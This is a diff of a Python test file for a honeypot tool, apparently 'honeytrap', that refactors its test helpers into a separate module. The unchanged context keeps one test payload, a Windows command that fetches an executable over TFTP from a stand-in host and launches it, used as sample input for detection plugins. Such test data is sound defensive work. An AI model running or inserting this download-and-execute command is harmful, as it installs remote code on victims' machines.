@@ -12,19 +12,17 @@ import types
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from pipeline_run import attack_of, process
 
 from honeytrap import decode
-from honeytrap.attack import Attack, Connection, Payload
+from honeytrap.attack import Attack
 from honeytrap.config import Config, PluginSpec
 from honeytrap.errors import ConfigError, PluginError
-from honeytrap.pipeline import Pipeline
 from honeytrap.plugin import LoadedPlugin, load_plugins
 
 ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
 PLUGIN_DIR = os.path.join(ROOT, "plugins")
 XMATCH_DATA = os.path.join(ROOT, "tests", "data", "xmatch")
-# Bound on every wait: far above what any step needs, so only a bug reaches it.
-WAIT = 30.0
 
 COMMAND = b"cmd /c tftp -i 198.18.0.1 GET x.exe & start x.exe"
 
@@ -49,23 +47,12 @@ class Seen:
             return [a for a in self.attacks if a.is_virtual]
 
 
-def attack_of(payload: bytes) -> Attack:
-    return Attack(Connection("tcp", "198.18.0.2", 445, "198.18.0.1", 40000, Payload(payload)))
-
 
 def run(plugins: list[PluginSpec], payload: bytes) -> tuple[Attack, Seen]:
     registry = load_plugins(Config(plugin_dir=PLUGIN_DIR, plugins=plugins))
     seen = Seen()
     registry.register(LoadedPlugin("Seen", types.ModuleType("seen"), seen))
-    pipeline = Pipeline(registry, workers=1)
-    attack = attack_of(payload)
-    try:
-        pipeline.submit(attack)
-        assert pipeline.drain(WAIT)
-    finally:
-        pipeline.close(WAIT)
-        registry.close()
-    return attack, seen
+    return process(registry, attack_of(payload)), seen
 
 
 def spec(name: str, **options: str | list[str]) -> PluginSpec:
